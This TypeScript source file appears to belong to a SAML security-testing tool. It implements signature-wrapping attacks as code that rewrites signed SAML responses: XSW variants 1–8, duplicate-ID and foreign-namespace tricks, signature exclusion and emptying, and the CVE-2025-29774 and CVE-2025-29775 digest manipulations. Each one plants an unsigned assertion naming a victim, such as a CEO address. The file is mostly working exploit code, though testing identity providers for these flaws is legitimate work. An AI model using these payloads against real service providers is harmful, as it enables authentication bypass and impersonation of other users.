/**
 * Signature wrapping (XSW, Somorovsky et al., "On Breaking SAML", 2012) and its later variants: a part that is signed
 * stays in the document, and another one, which says somebody else, stands where careless readers look.
 */
import type { Scene, Switch } from '../switch.ts';
import { assertionNamespace, protocolNamespace, type SignedPart, signatureNamespace } from './names.ts';
import type { SamlScene } from './switch.ts';
import { child, elements, parse, serialize } from './xml.ts';

/** Whom the attacker wants to be: a colleague, so that no rule about domains helps. */
export const victimOf = ({ directory }: SamlScene, { options }: Scene): string =>
  options.value ?? `ceo@${directory.organization.domain ?? 'victim.example'}`;

export const evilId = '_evil';
const emailLike = /mail|name$/i;

interface Parts {
  document: Document;
  response: Element;
  /** As signed. */
  assertion: Element;
  /** An unsigned copy that says the victim. */
  evil: Element;
  signature: Element | undefined;
}

function nameVictim(assertion: Element, victim: string): void {
  for (const nameId of elements(assertion, assertionNamespace, 'NameID')) nameId.textContent = victim;
  for (const attribute of elements(assertion, assertionNamespace, 'Attribute')) {
    if (!emailLike.test(attribute.getAttribute('Name') ?? '')) continue;
    for (const value of elements(attribute, assertionNamespace, 'AttributeValue')) value.textContent = victim;
  }
}

function withoutSignature(element: Element): Element {
  const signature = child(element, 'Signature');
  if (signature) element.removeChild(signature);
  return element;
}

function partsOf(xml: string, victim: string): Parts {
  const document = parse(xml);
  const response = document.documentElement;
  const assertion = child(response, 'Assertion')!;
  const evil = withoutSignature(assertion.cloneNode(true) as Element);
  evil.setAttribute('ID', evilId);
  nameVictim(evil, victim);
  return { document, response, assertion, evil, signature: child(assertion, 'Signature') };
}

const samlp = (document: Document, name: string): Element =>
  document.createElementNS(protocolNamespace, `samlp:${name}`);
const ds = (document: Document, name: string): Element =>
  document.createElementNS(signatureNamespace, `ds:${name}`);
const afterIssuer = (element: Element): ChildNode | null => child(element, 'Issuer')?.nextSibling ?? null;

export function wrapping(does: string, wrap: (parts: Parts) => void, sign: SignedPart = 'assertion'): Switch {
  return {
    where: 'SAML response',
    does,
    saml: {
      message({ packing }) {
        packing.sign = sign;
        packing.encryptFor = undefined;
      },
      xml(xml, saml, scene) {
        const parts = partsOf(xml, victimOf(saml, scene));
        wrap(parts);
        return serialize(parts.document);
      },
    },
  };
}

/** The signed response inside, an evil one around it. */
function evilResponse(
  { document, response }: Parts,
  victim: string,
  place: (original: Element) => void,
): void {
  const original = response.cloneNode(true) as Element;
  const signature = child(response, 'Signature')!;
  response.setAttribute('ID', evilId);
  child(response, 'Assertion')!.setAttribute('ID', `${evilId}-2`);
  nameVictim(response, victim);
  place(withoutSignature(original));
  if (!child(response, 'Signature')) response.insertBefore(signature, afterIssuer(response));
  void document;
}
const nameIn = ({ evil }: Parts): string =>
  elements(evil, assertionNamespace, 'NameID')[0]?.textContent ?? '';

const inExtensions = ({ document, response }: Parts, content: Element): void => {
  const extensions = samlp(document, 'Extensions');
  extensions.appendChild(content);
  response.insertBefore(extensions, child(response, 'Status') ?? null);
};

export const wrappingSwitches = {
  'saml-xsw-1': wrapping(
    'XSW 1: an evil response whose signature holds the signed one',
    (p) => evilResponse(p, nameIn(p), (original) => child(p.response, 'Signature')!.appendChild(original)),
    'response',
  ),
  'saml-xsw-2': wrapping(
    'XSW 2: an evil response with the signed one before the signature',
    (p) =>
      evilResponse(p, nameIn(p), (original) =>
        p.response.insertBefore(original, child(p.response, 'Signature')!),
      ),
    'response',
  ),
  'saml-xsw-3': wrapping(
    'XSW 3: an evil assertion before the signed one',
    ({ response, assertion, evil }) => {
      response.insertBefore(evil, assertion);
    },
  ),
  'saml-xsw-4': wrapping(
    'XSW 4: an evil assertion around the signed one',
    ({ response, assertion, evil }) => {
      response.replaceChild(evil, assertion);
      evil.appendChild(assertion);
    },
  ),
  'saml-xsw-5': wrapping(
    'XSW 5: an evil assertion with the signature, the signed one behind it',
    ({ response, assertion, evil, signature }) => {
      response.replaceChild(evil, assertion);
      evil.insertBefore(signature!, afterIssuer(evil));
      response.appendChild(assertion);
    },
  ),
  'saml-xsw-6': wrapping(
    'XSW 6: an evil assertion whose signature holds the signed one',
    ({ response, assertion, evil, signature }) => {
      response.replaceChild(evil, assertion);
      evil.insertBefore(signature!, afterIssuer(evil));
      signature!.appendChild(assertion);
    },
  ),
  'saml-xsw-7': wrapping('XSW 7: an evil assertion of the same ID in Extensions', (p) => {
    p.evil.setAttribute('ID', p.assertion.getAttribute('ID')!);
    inExtensions(p, p.evil);
  }),
  'saml-xsw-8': wrapping(
    'XSW 8: an evil assertion whose signature holds the signed one in an Object',
    ({ document, response, assertion, evil, signature }) => {
      response.replaceChild(evil, assertion);
      evil.insertBefore(signature!, afterIssuer(evil));
      const object = ds(document, 'Object');
      signature!.appendChild(object);
      object.appendChild(assertion);
    },
  ),
  'saml-evil-last': wrapping('puts an evil assertion behind the signed one', ({ response, evil }) => {
    response.appendChild(evil);
  }),
  'saml-evil-in-extensions': wrapping('hides an evil assertion in Extensions', (p) =>
    inExtensions(p, p.evil),
  ),
  'saml-signed-in-extensions': wrapping(
    'moves the signed assertion into Extensions, an evil one in its place',
    (p) => {
      p.response.replaceChild(p.evil, p.assertion);
      inExtensions(p, p.assertion);
    },
  ),
  'saml-signed-in-status': wrapping(
    'moves the signed assertion into the status detail, an evil one in its place',
    ({ document, response, assertion, evil }) => {
      response.replaceChild(evil, assertion);
      const detail = samlp(document, 'StatusDetail');
      detail.appendChild(assertion);
      child(response, 'Status')!.appendChild(detail);
    },
  ),
  'saml-signed-in-advice': wrapping(
    'moves the signed assertion into the advice of an evil one',
    ({ document, response, assertion, evil }) => {
      response.replaceChild(evil, assertion);
      const advice = document.createElementNS(assertionNamespace, 'saml:Advice');
      advice.appendChild(assertion);
      evil.insertBefore(advice, child(evil, 'AuthnStatement') ?? null);
    },
  ),
  'saml-signed-in-object': wrapping(
    'moves the signed assertion into an Object beside an evil one without signature',
    ({ document, response, assertion, evil }) => {
      response.replaceChild(evil, assertion);
      const object = ds(document, 'Object');
      object.appendChild(assertion);
      response.appendChild(object);
    },
  ),
  'saml-signed-in-response': wrapping(
    'puts the whole signed response as a child into an evil one',
    ({ document, response, evil, assertion }) => {
      const original = response.cloneNode(true) as Element;
      withoutSignature(response).setAttribute('ID', evilId);
      evil.setAttribute('ID', `${evilId}-2`);
      response.replaceChild(evil, assertion);
      response.appendChild(original);
      void document;
    },
    'response',
  ),
  'saml-evil-in-assertion': wrapping(
    'hides an evil assertion in an attribute of the signed one',
    ({ assertion, evil, document }) => {
      const statement = child(assertion, 'AttributeStatement') ?? assertion;
      const value = document.createElementNS(assertionNamespace, 'saml:AttributeValue');
      value.appendChild(evil);
      statement.appendChild(value);
    },
  ),
  'saml-duplicate-ids': wrapping(
    'puts an evil assertion of the same ID before the signed one',
    ({ response, assertion, evil }) => {
      evil.setAttribute('ID', assertion.getAttribute('ID')!);
      response.insertBefore(evil, assertion);
    },
  ),
  'saml-duplicate-ids-last': wrapping(
    'puts an evil assertion of the same ID behind the signed one',
    ({ response, assertion, evil }) => {
      evil.setAttribute('ID', assertion.getAttribute('ID')!);
      response.appendChild(evil);
    },
  ),
  'saml-other-id-attribute': wrapping(
    'gives an evil assertion an Id attribute that equals the signed ID',
    (p) => {
      p.evil.setAttribute('Id', p.assertion.getAttribute('ID')!);
      p.response.replaceChild(p.evil, p.assertion);
      p.evil.insertBefore(p.signature!, afterIssuer(p.evil));
      inExtensions(p, p.assertion);
    },
  ),
  'saml-foreign-namespace': wrapping(
    'puts an evil assertion of another namespace before the signed one',
    ({ document, response, assertion, evil }) => {
      const other = document.createElementNS('urn:oasis:names:tc:SAML:1.0:assertion', 'old:Assertion');
      other.setAttribute('ID', evilId);
      while (evil.firstChild) other.appendChild(evil.firstChild);
      response.insertBefore(other, assertion);
    },
  ),
  'saml-signature-moved': wrapping(
    'hangs the signature of the assertion on the response',
    ({ response, signature }) => {
      response.insertBefore(signature!, afterIssuer(response));
    },
  ),
  'saml-two-signatures': wrapping(
    'signs the assertion twice, and points the first signature elsewhere',
    ({ assertion, signature }) => {
      const second = signature!.cloneNode(true) as Element;
      const [reference] = elements(second, signatureNamespace, 'Reference');
      reference!.setAttribute('URI', '#_elsewhere');
      assertion.insertBefore(second, signature!);
    },
  ),
  'saml-two-signed-infos': wrapping(
    'adds a second SignedInfo with the digest of an evil assertion (CVE-2025-29774)',
    ({ assertion, signature, evil }) => {
      const signedInfo = child(signature!, 'SignedInfo')!;
      const second = signedInfo.cloneNode(true) as Element;
      elements(second, signatureNamespace, 'DigestValue')[0]!.textContent = 'ZXZpbA==';
      signature!.insertBefore(second, signedInfo);
      nameVictim(assertion, elements(evil, assertionNamespace, 'NameID')[0]!.textContent ?? '');
    },
  ),
  'saml-comment-in-digest': wrapping(
    'hides another digest in a comment in the right one (CVE-2025-29775)',
    ({ document, assertion, evil }) => {
      const [digest] = elements(assertion, signatureNamespace, 'DigestValue');
      digest!.insertBefore(document.createComment('ZXZpbA=='), digest!.firstChild);
      nameVictim(assertion, elements(evil, assertionNamespace, 'NameID')[0]!.textContent ?? '');
    },
  ),
  'saml-unsigned': {
    where: 'SAML response',
    does: 'signs nothing',
    saml: {
      message({ packing }) {
        packing.sign = 'nothing';
        packing.encryptFor = undefined;
      },
    },
  },
  'saml-signature-removed': wrapping(
    'removes the signature and says somebody else (signature exclusion)',
    ({ response, assertion, evil }) => {
      response.replaceChild(evil, assertion);
    },
  ),
  'saml-signature-emptied': wrapping('sends a Signature without content', ({ signature }) => {
    while (signature!.firstChild) signature!.removeChild(signature!.firstChild);
  }),
  'saml-two-assertions': {
    where: 'SAML response',
    does: 'sends two assertions, both signed',
    saml: {
      message({ facts, packing }, saml, scene) {
        packing.sign = 'assertion';
        packing.encryptFor = undefined;
        const [first] = facts.assertions;
        if (!first) return;
        const value = victimOf(saml, scene);
        facts.assertions.push({ ...first, id: `${first.id}-2`, nameId: { ...first.nameId, value } });
      },
    },
  },
} as const satisfies Record<string, Switch>;
